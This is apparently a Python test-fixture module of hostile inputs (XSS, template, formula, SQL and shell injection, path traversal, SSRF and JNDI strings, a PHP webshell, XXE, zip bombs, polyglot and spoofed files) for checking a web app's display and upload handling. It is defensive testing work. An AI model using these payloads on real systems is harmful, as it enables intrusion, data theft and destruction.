"""What people send who mean harm: lines, bodies, file names and files, for every view, letter and export.

Whatever executes says so: it sets `window.ran`, opens a dialog, or asks EVIL for something. What is taken is shown
again letter by letter; what is not taken is refused with a sentence.
"""

from __future__ import annotations

import gzip
import io
import zipfile
from dataclasses import dataclass

EVIL = "https://evil.example"
RUN = "window.ran=1,alert(1)"

_MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={EVIL}/x.js></script>",
    f"<script\n>{RUN}</script\n>".replace("\n", " "),
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</bdi></li></ul><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src="x" onerror="{RUN}">',
    f"<img src=`x` onerror=`{RUN}`>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src={EVIL}/pixel.gif>",
    f"<image href={EVIL}/pixel.gif>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>git</text></a></svg>",
    f"<svg><foreignObject><iframe src='javascript:{RUN}'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>git</math>",
    f"<body onload={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='data:image/svg+xml,<svg onload={RUN}>'>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster={EVIL}/poster.png></video>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<button popovertarget=x onclick={RUN}>bas</button>",
    f"<marquee onstart={RUN}>",
    f"<form action={EVIL}><button>Giriş yap</button></form>",
    f"<form><button formaction='javascript:{RUN}'>bas</button></form>",
    f"<a href='javascript:{RUN}'>git</a>",
    f"<a href='java&#x09;script:{RUN}'>git</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>git</a>",
    f"<a href=x onmouseover={RUN}>git</a>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href={EVIL}/>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>*{{background:url({EVIL}/x.png)}}</style>",
    f"<div style='background:url({EVIL}/x.png)'>kutu</div>",
    "<div style='position:fixed;inset:0;background:#fff'>kaplayan</div>",
    f"<isindex action=javascript:{RUN}>",
    f"<xss onpointerrawupdate={RUN} style=display:block>xss</xss>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<a id=main name=main>clobber</a><img name=documentElement src=x onerror={RUN}>",
    "<!-- yorum --><b>kalın</b><!--",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?php system('id'); ?>",
    "<%= 7*7 %>",
    "<% Response.Write(1) %>",
    f"<div hx-get={EVIL} hx-trigger=load>hx</div>",
    f"<div data-hx-get={EVIL} data-hx-trigger=load>hx</div>",
    f"<div hx-on:htmx:load='{RUN}' hx-get=/>hx</div>",
    f"<div hx-vals='js:{{x:({RUN})}}' hx-post=/sign-out hx-trigger=load>hx</div>",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"` onfocus={RUN} `",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C%2Fscript%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞",
    "&amp; &amp;amp; &quot; &#39; &nbsp; &bidi;",
)
_TEMPLATES = (
    "{{7*7}}", "{{ 7*7 }}", "${7*7}", "#{7*7}", "{% raw %}{{7*7}}{% endraw %}", "{{config}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% for c in [1] %}{{c}}{% endfor %}", "{{request.cookies}}",
    "{# yorum #}", "{0.__class__}", "{ad}", "{number}", "%(subject)s", "%s%s%s%n", "$subject", "$(id)", "`id`",
    "{{constructor.constructor('alert(1)')()}}", "*{7*7}", "@(7*7)", "[[${7*7}]]", "{{{7*7}}}",
    "{php}echo 1;{/php}", "#set($x=7*7)$x", "{{=7*7}}", "~{7*7}",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "=HYPERLINK(\"https://evil.example\")", "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"https://evil.example\")", "|calc", "%0A=1+1", "\"=1+1\"", "'=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "1;=1+1", "a,b\"c",
)  # fmt: skip
_QUERIES = (
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE tickets; --", "\" OR \"\"=\"", "') UNION SELECT NULL,NULL --",
    "1; SELECT pg_sleep(10)", "%' AND 1=0 UNION SELECT name FROM sqlite_master --", "\\'; --", "%", "_", "%%%___",
    "a\\", "*", "$1", "?", ":id", "MATCH \"a\" OR *", "NEAR(a b)", "a:b", "{\"$ne\": null}", "*)(uid=*))(|(uid=*",
    "' or count(//*)=1 or '",
)  # fmt: skip
_PATHS_AND_HEADERS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "/proc/self/environ", "C:\\boot.ini",
    "\\\\evil.example\\x", "%0d%0aSet-Cookie: a=b", "%0d%0aBcc: herkes@evil.example",
    "\\r\\nBcc: herkes@evil.example", "=?utf-8?q?=0d=0aBcc:_a@evil.example?=",
    "=?UTF-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=", "Subject: sahte", "From: info@whmcstr.net",
    "a@b\" <c@evil.example>", "http://127.0.0.1:22/", "http://169.254.169.254/latest/meta-data/",
    "${jndi:ldap://evil.example/a}", "() { :; }; echo x", "| cat /etc/passwd", "; rm -rf /", "&& id", "--help",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
)  # fmt: skip
_LETTERS = (
    "İIıi ŞşĞğÜüÖöÇç ÂâÎîÛû", "İSTANBUL ısparta İzmir ILGIN", "i\u0307 ve I\u0307", "e\u0301 a\u030a o\u0308",
    "\u1e9e ﬁ ﬂ ǅ", "مرحبا بالعالم", "שלום עולם", "abc \u202egnp.exe",
    "\u202dabc\u202c \u2066def\u2069 \u2067ghi\u2069", "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇹🇷 👍🏽", "Z\u0351\u036b\u0343a\u0351\u0302l\u0350g\u034bo\u0309", "ــــــــــــ",
    "\u3164\u115f x \u2800", "раypal.com", "аdmin", "ｆｕｌｌｗｉｄｔｈ", "𝕱𝖗𝖆𝖐𝖙𝖚𝖗 𝒶𝒷𝒸",
    "\ufdfd \U0001f4a9 \U000e0041", "ﷺ" * 20, "test\u00adhyphen", "null", "undefined", "NaN", "true", "0", "-0",
    "1e309", "999999999999999999999999", "None", "\\", "\\\\", "\\0", "\\u0000", "NUL", "CON", "\ufffd\ufffe",
)  # fmt: skip
_LONG = (
    "W" * 190, "ğ" * 200, "a." * 95, "&" * 190, "<" * 190, "\u0301" * 150 + "x",
    "https://evil.example/" + "a" * 160,
)  # fmt: skip
# Each is text of one line that is taken and shown as it was written: for subjects, bodies, names, comments, searches.
LINES = (*_MARKUP, *_TEMPLATES, *_FORMULAS, *_QUERIES, *_PATHS_AND_HEADERS, *_LETTERS, *_LONG)

# Markdown that becomes neither an active link nor a foreign picture, and what strains a reader of Markdown.
BODIES = (
    f"[git](javascript:{RUN})",
    f"[git](JaVaScRiPt:{RUN})",
    f"[git](java&#115;cript:{RUN})",
    f"[git](data:text/html,<script>{RUN}</script>)",
    f"[git](vbscript:{RUN})",
    f"[git](<javascript:{RUN}>)",
    f"[git]( javascript:{RUN} 'başlık')",
    f"[git][1]\n\n[1]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"<{EVIL}/x>",
    f"![resim]({EVIL}/pixel.gif)",
    "![resim](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f"![x](x 'onerror={RUN}')",
    f'[a]({EVIL} "onmouseover={RUN}")',
    f"`<script>{RUN}</script>`",
    f"```html\n<script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
    f"<div>\n\n<script>{RUN}</script>\n\n</div>",
    f"# <img src=x onerror={RUN}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | {{{{7*7}}}} |",
    "> " * 60 + "derin",
    "\n".join("  " * depth + "- madde" for depth in range(60)),
    "[" * 400,
    "*" * 2000,
    "_a" * 1000,
    "`" * 999,
    "![" * 500,
    "<!--" * 300,
    "a\n" * 1500,
    "\r\nBcc: herkes@evil.example\r\n\r\n<script>alert(1)</script>",
    ".\n\n.\n\nQUIT",
    "From sahte@evil.example\n\nmetin",
    "-- \nimza\n--sahte-sınır--\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "begin 644 x.exe\nend",
    "\tsekme\tve \t boşluk  \n",
)

# What is no text: refused wherever text is asked for.
NO_TEXTS = (
    "a\0b", "\0", "a\x01b", "a\x08b", "\x1b[31mkırmızı\x1b[0m", "\x1b]0;başlık\x07", "a\x7fb", "a\x85b", "\x9b31m",
    "a\x0bb",
)  # fmt: skip
# What no UTF-8 can say; JSON spells it with escapes.
LONE_SURROGATES = ("a\ud800b", "\udfff", "\ud83d")


@dataclass(frozen=True, slots=True)
class HostileFile:
    """A file as it is sent; the name under which it is taken, or None where it is refused."""

    name: str
    content: bytes
    taken_as: str | None


def _zip(*names: str, content: bytes = b"x", compressed: bool = False) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED) as archive:
        for name in names:
            archive.writestr(name, content)
    return made.getvalue()


PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(60)
_GIF = b"GIF89a\x01\0\x01\0\x80\0\0"
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>".encode()
_HTML = f"<!doctype html><script>{RUN}</script>".encode()
_EXE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(60)
_ELF = b"\x7fELF\x02\x01\x01" + bytes(60)
_BOMB = _zip("0.txt", content=bytes(10_000_000), compressed=True)

# How names are cleaned; each is sent with a picture.
NAMES = (
    ("../../../etc/passwd.png", "passwd.png"),
    ("..\\..\\windows\\system32\\x.png", "x.png"),
    ("/etc/cron.d/x.png", "x.png"),
    ("C:\\Users\\Ayşe\\Ekran görüntüsü.png", "Ekran görüntüsü.png"),
    ("\\\\evil.example\\paylaşım\\x.png", "x.png"),
    ("file:///etc/x.png", "x.png"),
    ("x.png\0.exe", None),
    ("x\0.png", "x.png"),
    ("resim\u202egpj.exe", None),
    ("resim\u202egnp.png", "resimgnp.png"),
    ("\u2066\u2067a\u2069\u200f.png", "a.png"),
    ("a\u200bb\ufeffc.png", "abc.png"),
    ("👩\u200d💻.png", "👩\u200d💻.png"),
    ("CON.png", "_CON.png"),
    ("nul.png", "_nul.png"),
    ("com1.tar.png", "_com1.tar.png"),
    ("LPT¹.png", "_LPT¹.png"),
    ("console.png", "console.png"),
    ("x.png.", "x.png"),
    ("x.png . . ", "x.png"),
    (" .png", "file.png"),
    (".png", "file.png"),
    ("...", "file.png"),
    ("", "file.png"),
    ("resim", "resim.png"),
    ("x.PNG", "x.png"),
    ("x.png:Zone.Identifier", None),
    ("x.png::$DATA", None),
    ('a"b.png', "a-b.png"),
    ("a'b.png", "a'b.png"),
    ("a;b=c.png", "a;b=c.png"),
    ("a\r\nSet-Cookie: x=y.png", "a Set-Cookie- x=y.png"),
    ("a%0d%0ab.png", "a%0d%0ab.png"),
    (f"<img src=x onerror={RUN}>.png", f"-img src=x onerror={RUN}-.png"),
    ("<script>alert(1)</script>.png", "script-.png"),
    ("{{7*7}}.png", "{{7-7}}.png"),
    ("${7*7}.png", "${7-7}.png"),
    ("=cmd|' /C calc'!A0.png", "=cmd-' /C calc'!A0.png".rpartition("/")[2]),
    ("-rf.png", "-rf.png"),
    ("$(id).png", "$(id).png"),
    ("`id`.png", "`id`.png"),
    ("a*b?.png", "a-b-.png"),
    ("ağaç ÖLÇÜ ıİ.png", "ağaç ÖLÇÜ ıİ.png"),
    ("a\u0306.png", "ă.png"),
    ("ÇOK UZUN " * 60 + ".png", ("ÇOK UZUN " * 60)[:251].strip() + ".png"),
    ("W" * 3000 + ".png", "W" * 251 + ".png"),
    ("x" * 300, "x" * 251 + ".png"),
    ("a.png/", "file.png"),
    ("a.b.c.d.png", "a.b.c.d.png"),
    ("\x1b[31mkırmızı.png", "[31mkırmızı.png"),
    ("a\u2028b\u2029.png", "ab.png"),
    ("\ud800x.png", "x.png"),
    ("x.p\u200dng", None),
    ("x.gif", None),
    ("x.svg", None),
    ("x.html", None),
    ("x.png.exe", None),
    ("x.exe.png", "x.exe.png"),
    ("x.\u0440ng", None),
)  # fmt: skip

# Contents under names: what is taken is only ever saved, under a name that no system runs.
FILES = (
    HostileFile("x.svg", _SVG, None),
    HostileFile("x.png", _SVG, None),
    HostileFile("x.txt", _SVG, "x.txt"),
    HostileFile("x.xml", _SVG, "x.xml"),
    HostileFile("x.html", _HTML, None),
    HostileFile("x.htm", _HTML, None),
    HostileFile("x.xhtml", _HTML, None),
    HostileFile("x.mhtml", _HTML, None),
    HostileFile("x.shtml", _HTML, None),
    HostileFile("x.hta", _HTML, None),
    HostileFile("x.jpg", _HTML, None),
    HostileFile("x.pdf", _HTML, None),
    HostileFile("x.txt", _HTML, "x.txt"),
    HostileFile("x", _HTML, "x.txt"),
    HostileFile("x.js", f"{RUN}".encode(), "x.js"),
    HostileFile("x.php", b"<?php system($_GET['c']);", "x.php"),
    HostileFile("x.phtml", b"<?php system($_GET['c']);", None),
    HostileFile(".htaccess", b"AddType application/x-httpd-php .png", None),
    HostileFile("x.jsp", b"<% %>", None),
    HostileFile("x.sh", b"#!/bin/sh\nid\n", None),
    HostileFile("x.bat", b"@echo off\r\n", None),
    HostileFile("x.ps1", b"Get-Process", None),
    HostileFile("x.vbs", b"MsgBox 1", None),
    HostileFile("x.lnk", b"L\0\0\0\x01\x14\x02\0", None),
    HostileFile("x.url", b"[InternetShortcut]\r\nURL=https://evil.example", None),
    HostileFile("desktop.ini", b"[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\x", "desktop.ini"),
    HostileFile("x.exe", _EXE, None),
    HostileFile("x.png", _EXE, None),
    HostileFile("x", _EXE, None),
    HostileFile("x.txt", _EXE, None),
    HostileFile("x", _ELF, None),
    HostileFile("x.jar", _zip("META-INF/MANIFEST.MF"), None),
    HostileFile("x.zip", _zip("META-INF/MANIFEST.MF"), "x.zip"),
    HostileFile("x.docm", _zip("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), None),
    HostileFile("x.docx", _zip("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), None),
    HostileFile("x.docx", _zip("[Content_Types].xml", "word/document.xml"), "x.docx"),
    HostileFile("x.xlsx", _zip("[Content_Types].xml", "word/document.xml"), None),
    HostileFile("x.docx", _zip("a.txt"), None),
    HostileFile("x.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60), None),
    HostileFile("x.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60), None),
    HostileFile("x.gif", _GIF + _HTML, "x.gif"),
    HostileFile("x.js", b"GIF89a=0;" + RUN.encode(), None),
    HostileFile("x.txt", b"GIF89a=0;" + RUN.encode(), None),
    HostileFile("x.gif", b"GIF89a/*" + b"\0*/=0;" + RUN.encode(), "x.gif"),
    HostileFile("x.pdf", b"%PDF-1.7\n" + _HTML, "x.pdf"),
    HostileFile("x.pdf", _HTML + b"%PDF-1.7\n", None),
    HostileFile("x.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", "x.pdf"),
    HostileFile("x.png", PNG + _zip("x.php"), "x.png"),
    HostileFile("x.zip", PNG + _zip("x.php"), None),
    HostileFile("x.jpg", b"\xff\xd8\xff\xe0" + _HTML, "x.jpg"),
    HostileFile("x.jpg", PNG, None),
    HostileFile("x.png", b"\xff\xd8\xff\xe0" + bytes(60), None),
    HostileFile("x.png", b"\x89PNG\r\n\x1a", None),
    HostileFile("x.webp", b"RIFF\0\0\0\0WAVE" + bytes(60), None),
    HostileFile("x.mp4", b"\0\0\0\x18ftypheic" + bytes(60), None),
    HostileFile("bomb.zip", _BOMB, "bomb.zip"),
    HostileFile("bomb.zip", _zip(*(f"{place}.zip" for place in range(16)), content=_BOMB), "bomb.zip"),
    HostileFile("bomb.gz", gzip.compress(bytes(10_000_000), mtime=0), "bomb.gz"),
    HostileFile("../x.zip", _zip("../../../etc/cron.d/x", "/etc/passwd", "C:\\x"), "x.zip"),
    HostileFile("x.zip", b"PK\x05\x06" + bytes(18), None),
    HostileFile("x.csv", b"=cmd|' /C calc'!A0,@SUM(1),+1,-1", "x.csv"),
    HostileFile("x.xml", b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>", "x.xml"),
    HostileFile("x.xml", b"<!DOCTYPE x [<!ENTITY a '&b;&b;&b;&b;'><!ENTITY b 'lol'>]><x>&a;</x>", "x.xml"),
    HostileFile("x.log", b"\x1b[2J\x1b]0;x", "x.log"),
    HostileFile("x.log", b"a\0b", None),
    HostileFile("x.txt", "\ufeffBOM ile".encode(), "x.txt"),
    HostileFile("x.txt", "Türkçe".encode("cp1254"), None),
    HostileFile("x.txt", "Türkçe".encode("utf-16"), None),
    HostileFile("x.txt", b"\xed\xa0\x80", None),
    HostileFile("x.txt", "\u202e ters \u2066".encode(), "x.txt"),
    HostileFile("x.txt", b"", None),
)
